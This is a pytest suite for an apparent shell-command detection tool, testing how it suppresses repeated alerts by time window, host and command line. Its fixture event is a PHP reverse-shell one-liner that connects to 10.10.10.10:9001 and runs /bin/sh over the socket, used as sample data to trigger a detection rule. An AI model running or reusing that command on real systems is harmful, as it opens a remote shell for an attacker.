"""Alert suppression (run/suppress.py): repeats of a rule's alert on one key within --suppress-window
leave as events; the key's next alert says how many were held back and since when."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest

from conftest import PHP_FSOCKOPEN, rule_ids, PATTERNS, PAYLOAD_RULES
from shellsieve.cli import main, parser
from shellsieve.compile.ruleset import Ruleset
from shellsieve.noise import process_event
from shellsieve.run.enrich import Hit
from shellsieve.run.engine import Engine
from shellsieve.run.stats import Stats
from shellsieve.run.suppress import Suppression, unknown_fields
from shellsieve.serve.pipeline import Listener, Pipeline
from shellsieve.settings import Settings, parse_duration, parse_suppress_by

CLI = str(Path(sys.executable).parent / "shellsieve")

# `run` over the same rules as the fixture below
_SEEDS_ONLY = [f"--exclude-rule={r}" for r in sorted(PAYLOAD_RULES)]


@pytest.fixture(scope="module")
def shipped() -> Ruleset:
    """The shipped rules without issue 24's payload rules, which also alert on the PHP reverse shell
    these tests use: one rule per event keeps the per-rule counts readable."""
    from shellsieve.build import build
    from shellsieve.model.selection import Selection

    return build([PATTERNS], None, Selection("low", (), tuple(sorted(PAYLOAD_RULES))))[1]


PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
WINDOW = Settings(stats_interval_s=0, suppress_window_s=300)


def _ts(minute: float) -> str:
    return f"2026-11-22T10:{int(minute):02d}:{(minute % 1) * 60:06.3f}Z"


def _php(minute: float, host: int = 0, args: list[str] = PHP, **drop: bool) -> dict[str, Any]:
    """The PHP reverse shell (one shipped rule hits it) at 10:<minute>, on host `host`."""
    ev = process_event(host, "php", args, ("bash", "/bin/bash"), ("root", "0"), "/tmp", ts=_ts(minute))
    for dotted in drop:
        parent, _, leaf = dotted.partition("__")
        ev[parent].pop(leaf)
    return ev


def _feed(engine: Engine, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
    return [msgspec.json.decode(x) for x in engine.stream().feed(data, 0.0).splitlines()]


def _alerts(docs: list[dict[str, Any]]) -> list[dict[str, Any] | None]:
    """Per output event: its first alert entry (None for an event left unalerted)."""
    return [d["shellsieve"]["alerts"][0] if rule_ids(d) else None for d in docs]


class TestWindow:
    def test_repeats_within_the_window_are_events_counted_per_rule(self, shipped: Ruleset) -> None:
        """The first alert of a key is alerted; repeats within 5 minutes leave unchanged and are counted."""
        engine = Engine(shipped, WINDOW)
        events = [_php(m) for m in (0, 1, 2, 4.9)]
        docs = _feed(engine, events)
        assert [rule_ids(d) for d in docs] == [[PHP_FSOCKOPEN], [], [], []]
        assert docs[1:] == events[1:]  # as an event without hits: unchanged
        snap = engine.snapshot()
        assert snap["suppressed_per_rule"] == {PHP_FSOCKOPEN: 3}
        assert snap["hits_per_rule"] == {PHP_FSOCKOPEN: 1} and snap["alerts"] == 1

    def test_next_alert_after_the_window_carries_count_and_since(self, shipped: Ruleset) -> None:
        """The first alert at or after the window's end reports what it held back and opens the next window."""
        engine = Engine(shipped, WINDOW)
        alerts = _alerts(_feed(engine, [_php(m) for m in (0, 1, 3, 5, 6, 10, 11)]))
        assert [a is not None for a in alerts] == [True, False, False, True, False, True, False]
        assert "suppressed" not in alerts[0]  # type: ignore[operator]
        assert alerts[3]["suppressed"] == {"count": 2, "since": "2026-11-22T10:01:00.000Z"}  # type: ignore[index]
        assert alerts[5]["suppressed"] == {"count": 1, "since": "2026-11-22T10:06:00.000Z"}  # type: ignore[index]
        other = _alerts(_feed(engine, [_php(11, host=3)]))[0]
        assert other is not None and "suppressed" not in other  # the cached alert entries stay clean

    def test_without_a_window_every_repeat_is_alerted(self, shipped: Ruleset) -> None:
        """Suppression is off by default, as Elastic's is opt-in."""
        engine = Engine(shipped, Settings(stats_interval_s=0))
        assert engine.suppression is None
        assert all(_alerts(_feed(engine, [_php(m) for m in (0, 1, 2)])))

    def test_a_late_event_older_than_the_window_start_is_a_repeat(self, shipped: Ruleset) -> None:
        """Out of order: an event timed before the open window's start is suppressed, and is the `since`."""
        engine = Engine(shipped, WINDOW)
        alerts = _alerts(_feed(engine, [_php(10), _php(8), _php(16)]))
        assert [a is not None for a in alerts] == [True, False, True]
        assert alerts[2]["suppressed"] == {"count": 1, "since": "2026-11-22T10:08:00.000Z"}  # type: ignore[index]

    def test_without_a_timestamp_the_arrival_time_counts(self, shipped: Ruleset) -> None:
        """Events without @timestamp are timed on arrival: back-to-back repeats fall in one window."""
        engine = Engine(shipped, WINDOW)
        events = [_php(0), _php(0)]
        for e in events:
            del e["@timestamp"]
        assert [rule_ids(d) for d in _feed(engine, events)] == [[PHP_FSOCKOPEN], []]


class TestKeys:
    def test_other_hosts_and_command_lines_do_not_suppress_each_other(self, shipped: Ruleset) -> None:
        """The key is the rule, host.id and the command line: any difference is a key of its own."""
        other_cmd = PHP[:2] + [PHP[2].replace("9001", "9002")]
        engine = Engine(shipped, WINDOW)
        docs = _feed(engine, [_php(0), _php(1, host=1), _php(2, args=other_cmd), _php(3)])
        assert [bool(rule_ids(d)) for d in docs] == [True, True, True, False]

    def test_host_name_stands_in_for_a_missing_host_id(self, shipped: Ruleset) -> None:
        """`host.id|host.name`: events without host.id are keyed by their host.name."""
        engine = Engine(shipped, WINDOW)
        docs = _feed(engine, [_php(0, host=0, host__id=True), _php(1, host=1, host__id=True),
                              _php(2, host=0, host__id=True)])
        assert [bool(rule_ids(d)) for d in docs] == [True, True, False]

    def test_missing_fields_group_together(self, shipped: Ruleset) -> None:
        """A field missing from the event is a value of its own: events lacking it share a key, apart
        from those that have it (Elastic's default for missing fields)."""
        engine = Engine(shipped, WINDOW)
        bare = dict(host__id=True, host__name=True)
        docs = _feed(engine, [_php(0, host=0, **bare), _php(1, host=7, **bare), _php(2, host=0)])
        assert [bool(rule_ids(d)) for d in docs] == [True, False, True]

    def test_suppress_by_fields_choose_the_key(self, shipped: Ruleset) -> None:
        """--suppress-by "" keys on the rule alone; a flat dotted key is read before the nested one."""
        flat = _php(1)
        flat["host.id"] = "other"
        engine = Engine(shipped, Settings(stats_interval_s=0, suppress_window_s=300, suppress_by=()))
        assert [bool(rule_ids(d)) for d in _feed(engine, [_php(0), flat])] == [True, False]
        by_host = Engine(shipped, Settings(stats_interval_s=0, suppress_window_s=300, suppress_by=("host.id",)))
        assert [bool(rule_ids(d)) for d in _feed(by_host, [_php(0), flat])] == [True, True]


class TestBound:
    def test_the_oldest_key_is_evicted_and_counted(self, shipped: Ruleset) -> None:
        """Past --suppress-max-keys the oldest key goes (counted); its repeat is alerted again."""
        engine = Engine(shipped, Settings(stats_interval_s=0, suppress_window_s=300, suppress_max_keys=2))
        docs = _feed(engine, [_php(0, host=0), _php(0.1, host=1), _php(0.2, host=2), _php(0.3, host=0),
                              _php(0.4, host=2)])
        assert [bool(rule_ids(d)) for d in docs] == [True, True, True, True, False]
        snap = engine.snapshot()
        assert snap["suppress_evictions"] == 2 and snap["suppress_keys"] == 2

    def test_ended_windows_leave_unless_they_hold_suppressed_hits(self, shipped: Ruleset) -> None:
        """Time expiry: a key whose window ended with nothing held back is forgotten; one holding
        suppressed hits waits for its next alert, and is evicted before any open window."""
        rule = shipped.rules[0].rule
        stats = Stats()
        gate = Suppression(60, ("host.name",), 2, stats)

        def hit(minute: float, host: str) -> bool:
            return bool(gate({"@timestamp": _ts(minute), "host": {"name": host}}, [Hit(rule)]))

        assert [hit(0, "a"), hit(0.5, "a"), hit(0.6, "b"), hit(3, "c")] == [True, False, True, True]
        assert (list(gate.ended), gate.expired) == ([(rule.id, ("a",))], 1)  # b expired, a waits
        assert hit(3.1, "d") and gate.evicted == 1 and not gate.ended  # the ended `a` went first
        assert stats.suppressed == {rule.id: 1}


class TestGates:
    def test_given_gates_run_before_suppression(self, shipped: Ruleset) -> None:
        """An excepted hit (dropped by an earlier gate) neither opens nor extends a window."""
        first = [True]

        def except_first(doc: dict[str, Any], hits: list[Hit]) -> list[Hit]:
            drop, first[0] = first[0], False
            return [] if drop else hits

        engine = Engine(shipped, WINDOW, gates=[except_first])
        assert [bool(rule_ids(d)) for d in _feed(engine, [_php(0), _php(1), _php(2)])] == [False, True, False]

    def test_only_alerts_drops_a_fully_suppressed_event(self, shipped: Ruleset) -> None:
        """Under --only-alerts an event whose hits were all suppressed is dropped like one without hits."""
        engine = Engine(shipped, Settings(stats_interval_s=0, suppress_window_s=300, only_alerts=True))
        docs = _feed(engine, [_php(0), _php(1), _php(6)])
        assert len(docs) == 2 and docs[1]["shellsieve"]["alerts"][0]["suppressed"]["count"] == 1
        assert engine.stats.dropped == 1

    def test_a_suppressed_hit_leaves_the_other_hits_alerted(self, shipped: Ruleset) -> None:
        """Two rules on one event: a repeat of one is suppressed while the other, new, is kept."""
        a, b = shipped.rules[0].rule, shipped.rules[1].rule
        stats = Stats()
        gate = Suppression(300, Settings().suppress_by, 100, stats)
        doc = _php(0)
        assert [h.rule for h in gate(doc, [Hit(a)])] == [a]
        assert [h.rule for h in gate(_php(1), [Hit(a), Hit(b)])] == [b]
        assert stats.suppressed == {a.id: 1}


class TestOptions:
    @pytest.mark.parametrize(("text", "seconds"), [("300", 300), ("300s", 300), ("5m", 300), ("1h", 3600),
                                                   ("1.5h", 5400), ("250ms", 0.25), ("0", 0)])
    def test_durations(self, text: str, seconds: float) -> None:
        """A bare number is seconds; ms, s, m, h and d are units."""
        assert parse_duration(text) == seconds
        assert parser().parse_args(["run", "--suppress-window", text]).suppress_window_s == seconds

    @pytest.mark.parametrize("bad", ["5x", "-1", "2d", "inf", "nan", "m", ""])
    def test_a_bad_duration_exits_2_naming_the_option(self, bad: str, capsys: pytest.CaptureFixture[str]) -> None:
        """Not a duration, or past a day: refused at start."""
        with pytest.raises(SystemExit) as exc:
            parser().parse_args(["run", "--suppress-window", bad])
        assert exc.value.code == 2
        assert "argument --suppress-window: must be a duration" in capsys.readouterr().err

    def test_suppress_by_syntax(self) -> None:
        """Comma-separated specs, `a|b` alternatives; rule.id is implicit; a repeat or an empty name is refused."""
        assert parse_suppress_by("rule.id,host.id|host.name, process.command_line") == Settings().suppress_by
        for bad in ("a,,b", "host.id,host.id", "host.", "a|", 'x"y'):
            with pytest.raises(ValueError):
                parse_suppress_by(bad)

    def test_settings_and_engine_refuse_bad_values_too(self, shipped: Ruleset) -> None:
        """A caller other than the CLI gets a ValueError: bad syntax from Settings, an unknown field
        from the Engine, a window past a day from the bounds."""
        with pytest.raises(ValueError, match="suppress_by"):
            Settings(suppress_by=("host.id", "host.id"))
        with pytest.raises(ValueError, match="suppress_window_s"):
            Settings(suppress_window_s=86_401)
        with pytest.raises(ValueError, match="'hots.name'"):
            Engine(shipped, Settings(suppress_window_s=60, suppress_by=("hots.name",)))

    def test_unknown_fields(self, shipped: Ruleset) -> None:
        """Known: ECS fields the formats fill, the tables map to, and the rules read."""
        assert unknown_fields(("host.id|host.name", "user.name", "container.id"), shipped.accessors) == []
        assert unknown_fields(("host.idd", "process.name|proc"), shipped.accessors) == ["host.idd", "proc"]

    @pytest.mark.parametrize("command", ["run", "serve"])
    def test_an_unknown_field_is_refused_at_start(self, command: str, capsys: pytest.CaptureFixture[str]) -> None:
        """run and serve both refuse an unknown --suppress-by field with exit 2, naming option and value."""
        extra = ["--listen", "http://127.0.0.1:9600"] if command == "serve" else []
        argv = [command, *extra, "--suppress-window", "5m", "--suppress-by", "host.id,hots.name"]
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert '"option":"--suppress-by"' in err and "hots.name" in err

    def test_serve_takes_the_options(self) -> None:
        """serve has the engine's suppression options, which its Engine builds the gate from."""
        args = parser().parse_args(["serve", "--listen", "http://127.0.0.1:9600", "--suppress-window", "5m",
                                    "--suppress-max-keys", "10"])
        assert (args.suppress_window_s, args.suppress_max_keys) == (300, 10)


class TestServe:
    def test_serve_pipeline_applies_it(self, shipped: Ruleset) -> None:
        """serve's pipeline runs the same Engine, so its output is suppressed the same way."""
        p = Pipeline(Engine(shipped, WINDOW), 100)
        events = [_php(m) for m in (0, 1, 6)]
        p.feed(p.engine.stream(), Listener("l"), b"".join(msgspec.json.encode(e) + b"\n" for e in events),
               close=True)
        parts, tag = p.take(10)
        docs = [msgspec.json.decode(x) for x in b"".join(parts).splitlines()]
        assert [bool(rule_ids(d)) for d in docs] == [True, False, True]
        assert docs[2]["shellsieve"]["alerts"][0]["suppressed"]["count"] == 1


class TestCli:
    def test_run_suppresses_and_the_counters_add_up(self) -> None:
        """Through `shellsieve run`: one alert, the rest forwarded; stopped's counters add up and count them."""
        events = [_php(m) for m in (0, 1, 2, 6)]
        data = b"".join(msgspec.json.encode(e) + b"\n" for e in events)
        res = subprocess.run([CLI, "run", "--stats-interval", "0", "--suppress-window", "5m", *_SEEDS_ONLY], input=data,
                             capture_output=True, timeout=60)
        assert res.returncode == 0, res.stderr.decode()
        docs = [msgspec.json.decode(x) for x in res.stdout.splitlines()]
        assert [bool(rule_ids(d)) for d in docs] == [True, False, False, True]
        assert docs[3]["shellsieve"]["alerts"][0]["suppressed"] == {"count": 2, "since": _ts(1)}
        logs = [msgspec.json.decode(x) for x in res.stderr.splitlines()]
        started, stopped = logs[0], logs[-1]
        assert started["suppress_window_s"] == 300 and started["suppress_by"] == list(Settings().suppress_by)
        assert stopped["events_in"] == 4 == (stopped["events_out"] + stopped["events_dropped"]
                                             + stopped["events_pending"] + stopped["events_undelivered"])
        assert stopped["suppressed_per_rule"] == {PHP_FSOCKOPEN: 2} and stopped["alerts"] == 2
